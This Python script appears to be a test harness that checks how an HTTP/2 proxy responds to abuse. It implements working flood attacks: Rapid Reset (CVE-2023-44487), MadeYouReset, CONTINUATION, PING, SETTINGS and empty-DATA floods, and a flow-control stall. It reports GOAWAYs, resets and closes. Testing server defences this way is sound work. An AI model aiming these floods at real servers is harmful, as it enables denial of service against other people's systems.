#!/usr/bin/env python3
"""A misbehaving HTTP/2 client for the flood scenario (hpack from Python h2 for header blocks,
raw frames otherwise). Sends one abuse on one connection, then reads frames until the server
closes the connection or goes quiet, and prints what the server did. Every frame received is
parsed from the raw byte stream, so "GOAWAY received" and "the proxy went silent" read
differently: "goaway <error code> closed" after a GOAWAY and a close, "no-goaway -1 open" when
nothing came.

Usage: h2_flood.py HOST PORT MODE [COUNT]
  rapid-reset    COUNT x (HEADERS GET /allowed/flood, RST_STREAM CANCEL)   (CVE-2023-44487)
  provoked-reset COUNT x (HEADERS POST /upload content-length 1, DATA of 2 bytes): the proxy
                 resets each stream PROTOCOL_ERROR after forwarding its head ("MadeYouReset")
  host-mismatch  COUNT x HEADERS GET /allowed/flood with a host other than :authority (400 each)
  ping           COUNT PING frames
  settings       COUNT empty SETTINGS frames
  empty-data     one POST stream, then COUNT empty DATA frames without END_STREAM
  continuation   one HEADERS without END_HEADERS, then COUNT CONTINUATION frames
Single-stream checks (print their own line):
  authority      GET with a host that disagrees, then one that agrees (other case, :80):
                 "mismatch <status> agree <status> <what the server saw>"
  tiny-data      POST /upload as COUNT DATA frames of 1 byte: "status <s> <server's JSON>"
  stall          SETTINGS_INITIAL_WINDOW_SIZE 0, GET /bytes/1000000, never a WINDOW_UPDATE:
                 "reset <code> after <s>" (or "no-reset"), COUNT = seconds to wait
"""
import json
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


class Reader:
    """Frames from the raw byte stream: GOAWAY, RST_STREAM per code, response heads, bodies."""

    def __init__(self, sock):
        self.sock, self.buf = sock, b""
        self.decoder = hpack.Decoder()
        self.goaway, self.closed = None, False
        self.resets = {}       # stream -> error code
        self.status = {}       # stream -> :status
        self.body = {}         # stream -> bytes
        self.ended = set()

    def read(self, until, seconds):
        """Reads until `until(self)`, a close, or `seconds` without that."""
        deadline = time.time() + seconds
        while not until(self) and not self.closed:
            left = deadline - time.time()
            if left <= 0:
                return False
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                return False
            except (ConnectionResetError, OSError):
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            self.buf += data
            self.parse()
        return until(self)

    def parse(self):
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                return
            ftype, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload, self.buf = self.buf[9:9 + n], self.buf[9 + n:]
            if ftype == 7 and self.goaway is None and len(payload) >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif ftype == 3 and len(payload) >= 4:
                self.resets[stream] = int.from_bytes(payload[:4], "big")
            elif ftype == 1:
                block = payload
                if flags & 0x8:  # PADDED
                    block = block[1:len(block) - block[0]]
                if flags & 0x20:  # PRIORITY
                    block = block[5:]
                try:
                    for name, value in self.decoder.decode(block):
                        if name in (b":status", ":status"):
                            self.status[stream] = int(value)
                except Exception:
                    pass
                if flags & END_STREAM:
                    self.ended.add(stream)
            elif ftype == 0:
                data = payload[1:len(payload) - payload[0]] if flags & 0x8 else payload
                self.body[stream] = self.body.get(stream, b"") + data
                if flags & END_STREAM:
                    self.ended.add(stream)


def main():
    host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 2000
    sock = socket.create_connection((host, port), timeout=10)
    encoder = hpack.Encoder()
    reader = Reader(sock)
    base = [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", "/allowed/flood")]
    post = [(":method", "POST"), (":scheme", "http"), (":authority", host), (":path", "/upload")]

    def headers(stream, fields, end_stream=True):
        return frame(1, END_HEADERS | (END_STREAM if end_stream else 0), stream, encoder.encode(fields))

    settings = frame(4, 0, 0, struct.pack(">HI", 4, 0)) if mode == "stall" else frame(4, 0, 0)
    # A large connection window: only a stream window (stall) ever holds the answers back.
    sock.sendall(PREFACE + settings + frame(8, 0, 0, struct.pack(">I", 1 << 24)))
    sent = 0
    try:
        if mode in ("rapid-reset", "provoked-reset", "host-mismatch"):
            batch = b""
            for i in range(count):
                sid = 2 * i + 1
                if mode == "rapid-reset":
                    batch += headers(sid, base) + frame(3, 0, sid, struct.pack(">I", 8))
                elif mode == "provoked-reset":
                    batch += headers(sid, post + [("content-length", "1")], end_stream=False)
                    batch += frame(0, END_STREAM, sid, b"ab")
                else:
                    batch += headers(sid, base + [("host", "elsewhere.example")])
                sent += 1
                if i % 50 == 49:
                    sock.sendall(batch)
                    batch = b""
                    reader.read(lambda r: r.goaway is not None, 0.01)  # keep the answers flowing
                    if reader.goaway is not None or reader.closed:
                        break
            sock.sendall(batch)
        elif mode == "ping":
            sock.sendall(b"".join(frame(6, 0, 0, struct.pack(">Q", i)) for i in range(count)))
            sent = count
        elif mode == "settings":
            sock.sendall(b"".join(frame(4, 0, 0) for _ in range(count)))
            sent = count
        elif mode == "empty-data":
            sock.sendall(headers(1, post, end_stream=False) + b"".join(frame(0, 0, 1) for _ in range(count)))
            sent = count
        elif mode == "continuation":
            sock.sendall(frame(1, 0, 1, encoder.encode(base)) + b"".join(frame(9, 0, 1, b"") for _ in range(count)))
            sent = count
        elif mode == "authority":
            sock.sendall(headers(1, [(":method", "GET"), (":scheme", "http"), (":authority", host),
                                     (":path", "/allowed/authority"), ("host", "elsewhere.example")]))
            sock.sendall(headers(3, [(":method", "GET"), (":scheme", "http"), (":authority", host),
                                     (":path", "/allowed/authority"), ("host", host.upper() + ":80")]))
            reader.read(lambda r: {1, 3} <= r.ended, 10)
            seen = json.loads(reader.body.get(3, b"{}") or b"{}")
            print("mismatch %s agree %s authority=%s host=%s" % (
                reader.status.get(1), reader.status.get(3), seen.get("authority"), seen.get("host")))
            return 0
        elif mode == "tiny-data":
            sock.sendall(headers(1, post, end_stream=False)
                         + b"".join(frame(0, 0, 1, b"a") for _ in range(count)) + frame(0, END_STREAM, 1))
            reader.read(lambda r: 1 in r.ended or 1 in r.resets, 10)
            print("status %s %s" % (reader.status.get(1), reader.body.get(1, b"").decode(errors="replace").strip()))
            return 0
        elif mode == "stall":
            start = time.time()
            sock.sendall(headers(1, [(":method", "GET"), (":scheme", "http"), (":authority", host),
                                     (":path", "/bytes/1000000")]))
            reader.read(lambda r: 1 in r.resets, count)
            if 1 in reader.resets:
                print("reset %d after %.1fs status %s body %d" % (
                    reader.resets[1], time.time() - start, reader.status.get(1), len(reader.body.get(1, b""))))
            else:
                print("no-reset after %.1fs status %s closed %s" % (time.time() - start, reader.status.get(1),
                                                                    reader.closed))
            return 0
        else:
            print("unknown mode", mode)
            return 1
    except (BrokenPipeError, ConnectionResetError):
        pass
    reader.read(lambda r: r.closed, 10)
    answered = sum(1 for s in reader.status if s % 2 == 1)
    print("%s %s %s sent=%d answered=%d resets=%d" % (
        "goaway" if reader.goaway is not None else "no-goaway",
        reader.goaway if reader.goaway is not None else -1,
        "closed" if reader.closed else "open", sent, answered, len(reader.resets)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
